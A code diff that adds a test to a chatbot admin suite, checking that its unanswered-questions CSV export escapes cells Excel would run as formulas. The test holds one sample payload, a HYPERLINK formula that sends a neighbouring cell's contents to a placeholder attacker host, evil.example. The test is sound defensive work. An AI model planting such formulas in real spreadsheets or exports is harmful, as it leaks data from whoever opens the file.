@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 
 from bot.services import services_of
@@ -123,3 +125,13 @@ def test_low_rated_answers_and_export(client_for, admin_app) -> None:
     assert "粗大ごみの出し方" in section and "090-1111-2222" not in section and "[電話番号]" in section
     exported = editor.get("/admin/unanswered/export.csv").content.decode("utf-8-sig")
     assert exported.splitlines()[0].startswith("件数,代表的な質問") and "図書館" in exported
+
+
+def test_the_export_runs_no_resident_formula(client_for, admin_app) -> None:
+    """A chat message that Excel would run (issue 17, item 1) reaches the export as text."""
+    attack = '=HYPERLINK("https://evil.example/?"&A3,"詳細")'
+    _log(admin_app, [attack, "＋８１ を教えて", "@図書館"])
+    exported = client_for("editor").get("/admin/unanswered/export.csv").content.decode("utf-8-sig")
+    centres = [row[1] for row in csv.reader(io.StringIO(exported))][1:]
+    assert len(centres) == 3 and "'" + attack in centres and "'@図書館" in centres
+    assert all(centre.startswith("'") for centre in centres)  # ＋８１ too (stored folded to +81)
